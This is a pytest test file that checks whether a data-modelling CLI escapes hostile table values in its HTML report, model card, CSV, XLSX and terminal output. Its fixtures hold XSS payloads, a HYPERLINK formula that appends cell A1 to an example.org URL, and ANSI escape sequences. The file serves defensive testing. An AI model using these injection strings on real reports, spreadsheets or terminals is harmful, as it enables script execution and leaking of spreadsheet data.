"""Markup and formulas in names and values are data: in the report, on the terminal, in CSV and in XLSX."""

from __future__ import annotations

import csv
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from command_line import QUICK, rows, run, write_csv

from trainwright.data.read import read_table

SCRIPT = "</script><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
ESCAPE = "red\x1b[31m"
COLUMN = "<img src=x onerror=alert(2)>"

Hostile = tuple[Path, dict[str, Any], list[dict[str, Any]]]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """A workspace trained on such a table: its folder, what `train --json` said, and the rows."""
    folder = tmp_path_factory.mktemp("hostile")
    table = []
    for i, row in enumerate(rows()):
        job = (FORMULA, "@SUM(1+1)", ESCAPE)[("clerk", "cook", "nurse").index(row["job"])]
        table.append({COLUMN: row["age"], "job": job, "spent": row["spent"], "bought": row["bought"]})
        table[i]["bought"] = SCRIPT if row["bought"] == "yes" else "-1+1"
    path = write_csv(folder / "hostile.csv", table)
    said = run("train", path, "--target", "bought", *QUICK, "--workspace", folder / "workspace", "--json")
    assert said.code == 0, said.err
    return folder, said.document, table


class Scripts(HTMLParser):
    """Counts what a browser would run: script elements and handlers of events."""

    def __init__(self) -> None:
        super().__init__()
        self.inside = False
        self.scripts: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag == "script"
        if self.inside:
            self.scripts.append("")
        self.handlers += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]

    def handle_endtag(self, tag: str) -> None:
        self.inside = False

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.scripts[-1] += data


def test_the_report_shows_them_as_text(hostile: Hostile) -> None:
    page = Path(hostile[1]["report"]).read_text("utf-8")
    assert SCRIPT not in page and COLUMN not in page
    assert "&lt;/script&gt;&lt;script&gt;alert(1)" in page and "&lt;img src=x" in page
    found = Scripts()
    found.feed(page)
    assert found.scripts and not any(script.strip().startswith("alert(") for script in found.scripts)
    assert found.handlers == []
    card = (Path(hostile[1]["report"]).parent / "model_card.md").read_text("utf-8")
    assert not re.search(r"(?<!\\)<script", card)


def test_classes_keep_their_spelling_everywhere(hostile: Hostile, tmp_path: Path) -> None:
    folder, document, table = hostile
    assert set(document["target"]["classes"]) == {SCRIPT, "-1+1"}
    flags = ("--keep", "job", "--workspace", folder / "workspace")
    for suffix in ("csv", "xlsx", "jsonl"):
        assert run("predict", "hostile", folder / "hostile.csv", "-o", f"out.{suffix}", *flags).code == 0
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        read = list(csv.DictReader(file))
    assert [row["job"] for row in read] == [row["job"] for row in table]
    assert {row["prediction"] for row in read} == {SCRIPT, "-1+1"}
    assert f"probability_{SCRIPT}" in read[0]


def test_a_workbook_holds_texts_not_formulas_or_links(hostile: Hostile, tmp_path: Path) -> None:
    folder, _, table = hostile
    place = tmp_path / "out.xlsx"
    flags = ("--keep", "job", "--workspace", folder / "workspace")
    assert run("predict", "hostile", folder / "hostile.csv", "-o", place, *flags).code == 0
    with zipfile.ZipFile(place) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet.lower().replace("=hyperlink", "")
    assert "HYPERLINK(" in "".join(parts.values())
    assert not any("example.org" in text for name, text in parts.items() if name.endswith(".rels"))
    jobs = read_table(place).frame["job"].to_list()
    assert [job for job in jobs if job.startswith("=")] == [r["job"] for r in table if r["job"].startswith("=")]


def test_the_terminal_is_not_steered(hostile: Hostile) -> None:
    folder, _, _ = hostile
    space = ("--workspace", folder / "workspace")
    for words in (
        ("inspect", folder / "hostile.csv", "--target", "bought"),
        ("predict", "hostile", folder / "hostile.csv", "--keep", "job", *space),
        ("evaluate", "hostile", folder / "hostile.csv", *space),
        ("data", "show", "hostile", *space),
        ("versions", "show", "hostile", *space),
    ):
        said = run(*words)
        assert said.code == 0, said.err
        assert "\x1b" not in said.out + said.err, words
    absent = run("train", folder / "hostile.csv", "--target", "x\x1b[2Jy", *space)
    assert absent.code == 2 and "\x1b" not in absent.err
